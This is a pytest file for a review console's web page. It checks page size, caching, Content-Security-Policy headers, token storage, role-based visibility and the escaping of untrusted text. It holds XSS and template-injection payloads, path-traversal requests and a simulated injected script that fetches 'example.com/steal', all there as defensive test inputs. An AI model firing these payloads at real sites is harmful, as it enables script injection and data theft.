"""What the page may do, what it shows of hostile texts, and who sees what."""

import gzip
import re
from typing import Any

import httpx
import pytest

from infra.local.paths import ROOT
from infra.local.stack import Stack
from infra.local.users import User
from prompt_capture.api.console_page import ConsolePage, PageSettings

from .conftest import Capture, Database, OpenConsole, events

PAGE = ROOT / "functions" / "console" / "page"
MAX_BYTES = 90_000
HOSTILE = {
    "html": "<img src=x onerror=alert(1)> <b>bold</b> <iframe src=//example.com></iframe>",
    "script": "</script><script>document.title = 'owned'</script> javascript:alert(1)",
    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 1 %>",
    "right-to-left": "\u202eolleh\u202c \u2067abc\u2069 שלום mixed with latin",
    "emoji": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 plan dinner 🍝🍝🍝",
    "long": "word " * 799 + "end",
    "without spaces": "x" * 4000,
}


@pytest.fixture(scope="module")
def page() -> ConsolePage:
    return ConsolePage(PAGE, PageSettings("https://project.supabase.co", "sb_publishable_x", True))


def test_the_page_has_at_most_90_kilobytes(page: ConsolePage) -> None:
    assert page.compressed_bytes <= MAX_BYTES


def test_every_module_is_in_the_page_and_preloaded_names_exist(stack: Stack) -> None:
    with httpx.Client(base_url=stack.console_url) as http:
        start = http.get("/")
        version = start.headers["etag"].strip('"')
        for file in PAGE.rglob("*.*"):
            name = file.relative_to(PAGE).as_posix()
            if name == "index.html":
                continue
            response = http.get(f"/page/{version}/{name}")
            assert response.content == file.read_bytes(), name
            assert "immutable" in response.headers["cache-control"]
        preloaded = re.findall(f'modulepreload" href="page/{version}/([^"]+)"', start.text)
        modules = [file.relative_to(PAGE).as_posix() for file in PAGE.rglob("*.js")]
        assert sorted(preloaded) == sorted([*modules, "settings.js"])
        known = http.get("/", headers={"If-None-Match": start.headers["etag"]})
        assert (known.status_code, known.content) == (304, b"")
        assert http.get(f"/page/{version}/../handler.py").status_code == 404
        assert http.get(f"/page/{version}/%2e%2e/handler.py").status_code == 404


def test_every_response_restricts_the_page(stack: Stack) -> None:
    for path in ("", "page/any/app.js", "page/any/missing.js"):
        headers = httpx.get(f"{stack.console_url}{path}").headers
        policy = dict(part.split(" ", 1) for part in headers["content-security-policy"].split("; "))
        assert policy["default-src"] == "'none'"
        assert policy["script-src"] == policy["style-src"] == "'self'"
        assert policy["connect-src"] == f"'self' {stack.supabase_url}"
        assert policy["frame-ancestors"] == policy["base-uri"] == policy["form-action"] == "'none'"
        assert policy["require-trusted-types-for"] == "'script'"
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert "set-cookie" not in headers


def test_the_page_sets_no_cookie_and_stores_no_token(
    open_page: OpenConsole, reviewer: User, database: Database, capture: Capture
) -> None:
    capture("any message at all")
    console = open_page().sign_in(reviewer)
    console.wait_for_message("any message at all")

    stored = console.page.evaluate("JSON.stringify([{ ...localStorage }, { ...sessionStorage }])")

    assert "eyJ" not in stored
    assert "refresh" not in stored
    assert console.page.context.cookies() == []


def test_the_policy_stops_what_an_injected_script_would_do(
    open_page: OpenConsole, reviewer: User
) -> None:
    console = open_page().sign_in(reviewer)
    console.expects_violations = True

    blocked = console.page.evaluate(
        """async () => {
          const outcomes = [];
          try { document.body.innerHTML = "<p>x</p>"; outcomes.push("html"); } catch {}
          await new Promise((resolve) => setTimeout(() => {
            try { new Function("return 1")(); outcomes.push("eval"); } catch {}
            resolve();
          }));
          try { await fetch("https://example.com/steal"); outcomes.push("fetch"); } catch {}
          return outcomes;
        }"""
    )

    assert blocked == []
    violated = {problem.partition(":")[0] for problem in console.page.evaluate("window.violations")}
    assert violated >= {"require-trusted-types-for", "connect-src"}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_texts_are_shown_as_text(
    open_page: OpenConsole, reviewer: User, database: Database, capture: Capture, text: str
) -> None:
    capture(text, conversation_id="c", message_index=0)
    capture("after it", conversation_id="c", message_index=1)
    row = database.execute("select private.normalise_text(%s)", [text]).fetchone()
    assert row is not None
    console = open_page().sign_in(reviewer)

    console.page.locator(".card .message").wait_for()

    assert console.page.locator(".card .message").text_content() == row[0]
    assert console.page.locator(".card :is(img, script, iframe, b)").count() == 0
    assert console.page.title() == "Prompt Capture console"
    console.press("1")
    console.wait_for_message("after it")
    assert console.page.locator(".context p:not(.label)").text_content() == text
    scrolled, visible = console.page.evaluate(
        "[document.documentElement.scrollWidth, document.documentElement.clientWidth]"
    )
    assert scrolled <= visible
    console.wait_until_recorded()
    assert events(database, "to_intent") == [("reschedule",)]


def test_a_viewer_sees_figures_and_no_text(
    open_page: OpenConsole, stack: Stack, database: Database, capture: Capture
) -> None:
    capture("a text for reviewers alone")
    viewer = stack.create_viewer("viewer-of-figures@example.com")
    console = open_page()
    received: list[str] = []
    console.page.on("response", lambda response: received.append(response.url))
    console.sign_in(viewer, "review")
    console.page.get_by_role("heading", name="Messages by source").wait_for()
    assert "a text for" not in console.page.content()

    links = console.page.get_by_role("link").all()
    assert [link.inner_text().strip() for link in links] == ["Health", "Figures"]
    links[1].click()
    console.page.get_by_text("Why messages wait").wait_for()

    assert "a text for" not in console.page.content()
    assert not any(url.endswith(("console_items", "console_models")) for url in received)


def test_an_account_without_a_role_is_told_so(open_page: OpenConsole, stack: Stack) -> None:
    console = open_page().sign_in(stack.create_user("nobody-special@example.com"))

    console.page.get_by_role("heading", name="This account has no role").wait_for()


def test_no_response_to_a_reviewer_names_a_sender_a_conversation_or_a_key(
    open_page: OpenConsole,
    reviewer: User,
    sender: User,
    database: Database,
    capture: Capture,
) -> None:
    first = capture(
        "the first of a conversation", conversation_id="conversation-17", message_index=0
    )
    capture("the second of a conversation", conversation_id="conversation-17", message_index=1)
    keys = [
        key.hex()
        for (key,) in database.execute("select text_key from public.review_queue").fetchall()
    ]
    console = open_page()
    bodies: list[str] = []
    console.page.on("response", lambda response: bodies.append(_text(response)))
    console.sign_in(reviewer)
    console.wait_for_message("the first of a conversation")
    console.press("1")
    console.wait_until_recorded()
    console.page.get_by_role("link", name="Figures").click()
    console.page.get_by_text("Why messages wait").wait_for()

    content = "\n".join(bodies)

    assert "the first of a conversation" in content
    for hidden in (sender.id, "conversation-17", str(first), *keys):
        assert hidden not in content


def _text(response: Any) -> str:
    """Return the body of a response from the database or the console's function."""
    is_data = "/rest/v1/" in response.url or "/v1/" in response.url
    return response.text() if is_data and response.request.method != "OPTIONS" else ""


def test_compression_is_reproducible(page: ConsolePage) -> None:
    again = ConsolePage(PAGE, PageSettings("https://project.supabase.co", "sb_publishable_x", True))

    assert again.version == page.version
    assert gzip.decompress(page.start_page("").body).count(page.version.encode()) >= 4
